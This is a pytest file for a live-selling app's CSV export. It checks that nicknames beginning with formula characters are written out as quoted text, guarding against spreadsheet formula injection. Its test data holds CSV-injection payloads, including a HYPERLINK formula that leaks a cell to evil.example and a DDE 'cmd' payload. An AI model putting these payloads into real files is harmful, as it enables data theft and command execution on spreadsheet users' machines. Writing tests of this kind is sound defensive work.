"""CSV exports are safe to open in a spreadsheet (issue 13, D9): a viewer whose nickname is a
formula (``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…``, a leading tab or CR) is written as text with a
leading ``'`` (OWASP), in every CSV LiveDesk writes. Recorded from the real sandbox server."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from app.session.replay import SessionFile
from app.session.report_csv import write_csv
from tests.support.polling import until
from tests.support.recording_rig import recording_host

pytestmark = pytest.mark.slow

#: what a spreadsheet runs as a formula at the start of a cell (OWASP, CSV injection)
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]  # a leading tab or CR: the platform refuses control characters in a nickname (422), so
# those two are checked on the cell writer itself below


async def test_formula_nicknames_are_exported_as_text(
    sandbox_server: Callable[..., Any], tmp_path: Path
) -> None:
    srv = sandbox_server(debug_routes=True)
    async with recording_host(srv, tmp_path / "sessions") as (room, rec):
        await room.start_session()
        await until(lambda: rec.recording, 20, "recording")
        pid = room.product_ids[0]
        async with httpx.AsyncClient(headers=srv.headers("host"), timeout=30) as http:
            for i, nick in enumerate(HOSTILE):
                r = await http.post(
                    srv.api("/orders"),
                    json={"user_id": f"h{i}", "nickname": nick, "product_id": pid, "pay": True},
                )
                r.raise_for_status()
        await until(lambda: len(room.orders) >= len(HOSTILE), 20, "the orders")
        await room.end_session()
        await until(lambda: not rec.recording, 20, "the file to close")
    [path] = rec.files
    with SessionFile(path) as f:
        files = write_csv(f, tmp_path / "csv", lang="en")
    cells: list[str] = []
    for out in files:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    # no cell a spreadsheet would run: every formula-leading text starts with the quote
    assert not [c for c in cells if c.startswith(FORMULA_LEAD)]
    orders_csv = next(p for p in files if p.name.endswith("_orders.csv"))
    with orders_csv.open(encoding="utf-8-sig", newline="") as fh:
        nicknames = [row[2] for row in list(csv.reader(fh))[1:]]
    assert sorted(nicknames) == sorted("'" + n for n in HOSTILE)  # the text itself is kept


def test_only_formula_leading_text_is_quoted() -> None:
    from app.session.report_csv import FORMULA_LEAD as LEAD
    from app.session.report_csv import csv_cell

    assert LEAD == FORMULA_LEAD
    assert csv_cell("=1") == "'=1" and csv_cell("观众=1") == "观众=1"
    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell(-5) == -5 and csv_cell(1.5) == 1.5  # numbers are numbers
    assert csv_cell("") == "" and csv_cell("¥1.00") == "¥1.00"
